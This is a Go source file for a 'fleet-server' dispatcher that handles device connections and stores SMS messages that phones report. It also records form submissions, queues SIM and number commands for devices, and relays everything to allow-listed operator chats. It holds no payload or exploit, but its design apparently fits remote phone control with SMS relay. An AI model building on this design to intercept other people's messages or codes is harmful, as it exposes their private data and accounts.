// Package dispatcher is the single entry point for device events and
// operator events. It authorizes operators, drives the conversation
// state machine, mutates the registry, queue and store, and hands
// events to the notifier.
package dispatcher

import (
	"context"
	"errors"
	"fmt"
	"strings"

	"github.com/google/uuid"
	"github.com/jonboulle/clockwork"
	"github.com/rs/zerolog/log"

	"github.com/fleetpanel/fleet-server/internal/auth"
	"github.com/fleetpanel/fleet-server/internal/conversation"
	"github.com/fleetpanel/fleet-server/internal/models"
	"github.com/fleetpanel/fleet-server/internal/notify"
	"github.com/fleetpanel/fleet-server/internal/queue"
	"github.com/fleetpanel/fleet-server/internal/registry"
	"github.com/fleetpanel/fleet-server/internal/storage"
	"github.com/fleetpanel/fleet-server/pkg/keylock"
)

// Defaults for Options.
const (
	DefaultSMSLogLimit = 500
	DefaultSMSLogPage  = 20
)

// ErrMissingField is returned when a device event lacks a required field.
var ErrMissingField = errors.New("missing field")

// Deps are the collaborators the dispatcher drives.
type Deps struct {
	Registry  *registry.Registry
	Queue     *queue.Queue
	Store     storage.Store
	Sessions  *conversation.Manager
	Notifier  *notify.Notifier
	Operators *auth.AllowList
	Clock     clockwork.Clock
}

// Options tunes the dispatcher.
type Options struct {
	// SMSLogLimit caps the stored log per device.
	SMSLogLimit int
	// SMSLogPage is how many entries the log view shows.
	SMSLogPage int
}

// Dispatcher routes device and operator events.
type Dispatcher struct {
	registry  *registry.Registry
	queue     *queue.Queue
	store     storage.Store
	sessions  *conversation.Manager
	notifier  *notify.Notifier
	operators *auth.AllowList
	clock     clockwork.Clock
	opts      Options

	// smsLocks serializes log mutations per device.
	smsLocks keylock.Map[string]
}

// New creates a dispatcher.
func New(deps Deps, opts Options) *Dispatcher {
	if opts.SMSLogLimit <= 0 {
		opts.SMSLogLimit = DefaultSMSLogLimit
	}
	if opts.SMSLogPage <= 0 {
		opts.SMSLogPage = DefaultSMSLogPage
	}
	if deps.Clock == nil {
		deps.Clock = clockwork.NewRealClock()
	}
	if deps.Sessions == nil {
		deps.Sessions = conversation.NewManager()
	}

	return &Dispatcher{
		registry:  deps.Registry,
		queue:     deps.Queue,
		store:     deps.Store,
		sessions:  deps.Sessions,
		notifier:  deps.Notifier,
		operators: deps.Operators,
		clock:     deps.Clock,
		opts:      opts,
	}
}

// ========== Device events ==========

// Connect records a device heartbeat and tells the operators.
func (d *Dispatcher) Connect(ctx context.Context, id string, meta models.DeviceMetadata) error {
	device, err := d.registry.Upsert(id, meta)
	if err != nil {
		return err
	}

	log.Info().
		Str("device_id", id).
		Str("model", device.Model).
		Msg("Device connected")

	details := models.Variables{"model": device.Model}
	if device.Battery != nil {
		details["battery"] = int(*device.Battery)
	}
	if device.SIM1 != nil {
		details["sim1"] = *device.SIM1
	}
	if device.SIM2 != nil {
		details["sim2"] = *device.SIM2
	}

	summary := "📲 *Device Connected*\n" + formatDevice(device, true)
	d.notifier.Broadcast(models.NewEvent(models.EventTypeDeviceConnected, id, summary, details))
	return nil
}

// PollCommands drains the queue of a device.
func (d *Dispatcher) PollCommands(ctx context.Context, id string) ([]*models.Command, error) {
	if id == "" {
		return nil, registry.ErrMissingID
	}

	cmds, err := d.queue.Drain(ctx, id)
	if err != nil {
		return nil, err
	}

	if len(cmds) > 0 {
		ids := make([]string, len(cmds))
		for i, c := range cmds {
			ids[i] = c.ID.String()
		}
		log.Info().Str("device_id", id).Int("count", len(cmds)).Msg("Commands delivered")

		summary := fmt.Sprintf("%d command(s) delivered to %s", len(cmds), id)
		d.notifier.Broadcast(models.NewEvent(models.EventTypeCommandsDrained, id, summary,
			models.Variables{"count": len(cmds), "commands": ids}))
	}
	return cmds, nil
}

// ReceiveSMS stores an inbound message reported by a device.
func (d *Dispatcher) ReceiveSMS(ctx context.Context, id string, entry *models.SMSEntry) error {
	if id == "" {
		return registry.ErrMissingID
	}
	if entry == nil || entry.From == "" || entry.Body == "" {
		return fmt.Errorf("%w: from and body are required", ErrMissingField)
	}

	e := *entry
	if e.ID == uuid.Nil {
		e.ID = uuid.New()
	}
	if e.Timestamp.IsZero() {
		e.Timestamp = models.Millis(d.clock.Now())
	}

	unlock := d.smsLocks.Lock(id)
	err := d.store.PrependSMS(ctx, id, &e, d.opts.SMSLogLimit)
	unlock()
	if err != nil {
		return fmt.Errorf("store sms for %s: %w", id, err)
	}

	log.Info().Str("device_id", id).Str("from", e.From).Msg("SMS received")

	summary := formatSMSReceived(d.deviceOrPlaceholder(id), &e)
	d.notifier.Broadcast(models.NewEvent(models.EventTypeSMSReceived, id, summary, models.Variables{
		"id":        e.ID.String(),
		"from":      e.From,
		"body":      e.Body,
		"sim":       e.SIM,
		"timestamp": e.Timestamp.Time().UnixMilli(),
	}))
	return nil
}

// DeleteLastSMS removes and returns the newest logged message.
// storage.ErrNotFound means the log was empty.
func (d *Dispatcher) DeleteLastSMS(ctx context.Context, id string) (*models.SMSEntry, error) {
	if id == "" {
		return nil, registry.ErrMissingID
	}

	unlock := d.smsLocks.Lock(id)
	removed, err := d.store.PopLatestSMS(ctx, id)
	unlock()
	if err != nil {
		return nil, err
	}

	log.Info().Str("device_id", id).Str("sms_id", removed.ID.String()).Msg("Last SMS deleted")

	d.notifier.Broadcast(models.NewEvent(models.EventTypeSMSDeleted, id, "SMS deleted",
		models.Variables{"id": removed.ID.String(), "from": removed.From}))
	return removed, nil
}

// SubmitForm replaces the form snapshot of a device.
func (d *Dispatcher) SubmitForm(ctx context.Context, id string, fields models.Variables) error {
	if id == "" {
		return registry.ErrMissingID
	}
	if fields == nil {
		fields = models.Variables{}
	}

	if err := d.store.SaveFormSnapshot(ctx, id, fields); err != nil {
		return fmt.Errorf("store form for %s: %w", id, err)
	}

	log.Info().Str("device_id", id).Int("fields", len(fields)).Msg("Form submitted")

	summary := formatFormSubmitted(d.deviceOrPlaceholder(id), fields)
	d.notifier.Broadcast(models.NewEvent(models.EventTypeFormSubmitted, id, summary, fields))
	return nil
}

// enqueue queues cmd and announces it. It is also the emitter for
// completed conversations.
func (d *Dispatcher) enqueue(ctx context.Context, deviceID string, cmd *models.Command) error {
	if err := d.queue.Enqueue(ctx, deviceID, cmd); err != nil {
		return err
	}

	log.Info().
		Str("device_id", deviceID).
		Str("command_id", cmd.ID.String()).
		Str("type", string(cmd.Type)).
		Msg("Command queued")

	d.notifier.Broadcast(models.NewEvent(models.EventTypeCommandQueued, deviceID, cmd.Describe(),
		models.Variables{
			"id":     cmd.ID.String(),
			"type":   string(cmd.Type),
			"sim":    int(cmd.SIM),
			"number": cmd.Number,
			"action": string(cmd.Action),
		}))
	return nil
}

// deviceOrPlaceholder falls back to a bare record for devices that
// report before their first connect.
func (d *Dispatcher) deviceOrPlaceholder(id string) models.Device {
	device, err := d.registry.Get(id)
	if err != nil {
		return models.Device{ID: id, Model: id}
	}
	return device
}

// ========== Operator events ==========

// HandleText handles a free-text message or a top-level command.
func (d *Dispatcher) HandleText(ctx context.Context, chatID int64, msg string) Response {
	if !d.operators.Allowed(chatID) {
		log.Warn().Int64("chat_id", chatID).Msg("Message from unauthorized chat")
		return respond(plain(chatID, TextPermissionDenied))
	}

	msg = strings.TrimSpace(msg)

	switch msg {
	case CommandStart:
		replies := d.abandonPending(ctx, chatID)
		menu := plain(chatID, TextPanelReady)
		menu.MainMenu = true
		return respond(append(replies, menu)...)

	case CommandCancel:
		replies := d.abandonPending(ctx, chatID)
		if len(replies) == 0 {
			replies = append(replies, plain(chatID, TextNothingToCancel))
		}
		return respond(replies...)

	case CommandConnectedDevices:
		replies := d.abandonPending(ctx, chatID)
		return respond(append(replies, d.deviceListing(chatID))...)

	case CommandExecute:
		replies := d.abandonPending(ctx, chatID)
		return respond(append(replies, d.devicePicker(chatID, 0))...)
	}

	res, err := d.sessions.Apply(ctx, chatID, conversation.Text(msg), d.enqueue)
	switch {
	case errors.Is(err, conversation.ErrNoTransition):
		hint := plain(chatID, TextIdleHint)
		hint.MainMenu = true
		return respond(hint)
	case err != nil:
		log.Error().Err(err).Int64("chat_id", chatID).Msg("Failed to apply operator input")
		return respond(plain(chatID, TextInternalError))
	}

	if res.Reply == "" {
		return Response{}
	}
	return respond(plain(chatID, res.Reply))
}

// abandonPending cancels the session of chatID, returning the notice to
// show when something was actually pending.
func (d *Dispatcher) abandonPending(ctx context.Context, chatID int64) []Reply {
	res, err := d.sessions.Apply(ctx, chatID, conversation.Cancel(), nil)
	if err != nil {
		log.Error().Err(err).Int64("chat_id", chatID).Msg("Failed to cancel session")
		return nil
	}
	if res.Reply == "" {
		return nil
	}
	return []Reply{plain(chatID, res.Reply)}
}

// HandleButton handles an inline button press.
func (d *Dispatcher) HandleButton(ctx context.Context, press ButtonPress) Response {
	if !d.operators.Allowed(press.ChatID) {
		log.Warn().Int64("chat_id", press.ChatID).Msg("Button press from unauthorized chat")
		return ack(TextNotAllowed)
	}

	verb, ref := ParseAction(press.Data)
	act, ok := actions[verb]
	if !ok {
		log.Debug().Str("data", press.Data).Msg("Unknown action")
		return ack(TextUnknownAction)
	}

	var device models.Device
	if act.needsDevice {
		var err error
		device, err = d.lookupDevice(ref)
		if err != nil {
			return ack(TextDeviceNotFound)
		}
	}

	return act.handle(d, ctx, press, device)
}

// lookupDevice resolves a device reference taken from callback data.
func (d *Dispatcher) lookupDevice(ref string) (models.Device, error) {
	handle, hashed := strings.CutPrefix(ref, handlePrefix)
	if !hashed {
		return d.registry.Get(ref)
	}

	for _, dev := range d.registry.List() {
		if DeviceHandle(dev.ID) == handle {
			return dev, nil
		}
	}
	return models.Device{}, registry.ErrNotFound
}
